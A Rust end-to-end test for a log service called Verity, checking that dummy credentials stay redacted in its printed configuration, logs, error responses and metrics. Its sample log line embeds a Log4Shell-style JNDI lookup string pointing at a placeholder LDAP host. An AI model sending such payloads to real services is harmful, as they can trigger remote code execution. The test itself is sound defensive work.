//! Secrets never leave Verity: inline credentials in webhook headers, Kafka properties and URL
//! userinfo, and bearer tokens, are absent from `verity validate --print`, the startup log,
//! error messages and `/metrics`, even while deliveries to that URL fail.

use std::time::Duration;

use verity_e2e::{Verity, free_port, http_request, otlp, verity_command};

const SECRETS: &[&str] = &[
    "SEKRIT-HEADER-TOKEN",
    "SEKRIT-KAFKA-PASSWORD",
    "SEKRIT-KEY-PEM",
    "SEKRIT-URL-PASSWORD",
    "SEKRIT-BEARER",
];

const PROBE: &str = r#"[2024-05-01T10:00:00.000Z] "GET /api HTTP/1.1" 200 - via_upstream - "-" 0 19 1 - "-" "${jndi:ldap://203.0.113.5:1389/a}" "r-00" "pay.pay:8080" "10.0.2.7:8080" inbound|8080|| 127.0.0.6:51000 10.0.2.7:8080 203.0.113.5:6000 outbound_.8080_._.pay.pay.svc.cluster.local default"#;

#[test]
fn secrets_appear_in_no_output() {
    let dir = tempfile::tempdir().expect("tmp");
    let token = dir.path().join("token");
    std::fs::write(&token, "SEKRIT-BEARER").expect("token");
    let tokens = format!(
        r#"[{{"name": "collector", "secret": {{"file": "{}"}}}}]"#,
        token.display()
    );
    // Nothing listens there: every delivery fails and is logged.
    let url = format!("http://alice:SEKRIT-URL-PASSWORD@127.0.0.1:{}/hook", free_port());
    let env = [
        ("VERITY__OTLP__TOKENS", tokens.as_str()),
        ("VERITY__OTLP__ACCEPT_UNAUTHENTICATED", "true"),
        (
            "VERITY__KAFKA__PROPERTIES",
            "{sasl.password: SEKRIT-KAFKA-PASSWORD, ssl.key.pem: SEKRIT-KEY-PEM}",
        ),
        ("VERITY__SINKS__OUTPUTS__HOOK__TYPE", "webhook"),
        ("VERITY__SINKS__OUTPUTS__HOOK__URL", url.as_str()),
        (
            "VERITY__SINKS__OUTPUTS__HOOK__HEADERS",
            "{Authorization: Bearer SEKRIT-HEADER-TOKEN}",
        ),
    ];
    let mut printed = String::new();
    let mut validate = verity_command(dir.path());
    validate.args(["validate", "--print"]);
    for (k, v) in env {
        validate.env(k, v);
    }
    let out = validate.output().expect("verity validate");
    printed.push_str(&String::from_utf8_lossy(&out.stdout));
    printed.push_str(&String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success(), "{printed}");
    assert!(printed.contains("<redacted>"), "{printed}");

    let mut v = Verity::start(&env);
    let body = serde_json::to_vec(&otlp::logs_request(vec![otlp::record(PROBE, vec![])])).expect("json");
    let ok = http_request(
        v.http,
        "POST",
        "/v1/logs",
        &[
            ("Content-Type", "application/json"),
            ("Authorization", "Bearer SEKRIT-BEARER"),
        ],
        &body,
    )
    .expect("post");
    assert_eq!(ok.status, 200);
    let bad = http_request(
        v.http,
        "POST",
        "/v1/logs",
        &[
            ("Content-Type", "application/json"),
            ("Authorization", "Bearer SEKRIT-BEARER-WRONG"),
        ],
        &body,
    )
    .expect("post");
    assert_eq!(bad.status, 401);
    printed.push_str(&String::from_utf8_lossy(&bad.body));
    // Let the webhook output fail a few deliveries.
    assert!(
        verity_e2e::eventually(Duration::from_secs(15), || {
            v.metrics_text().contains(r#"sink="hook",class="#)
        }),
        "{}",
        v.stderr()
    );
    std::thread::sleep(Duration::from_secs(2));
    printed.push_str(&v.metrics_text());
    let _ = v.terminate(Duration::from_secs(20));
    printed.push_str(&v.stderr());
    assert!(printed.contains("effective configuration"), "{printed}");
    for secret in SECRETS {
        assert!(!printed.contains(secret), "{secret} was printed:\n{printed}");
    }
}
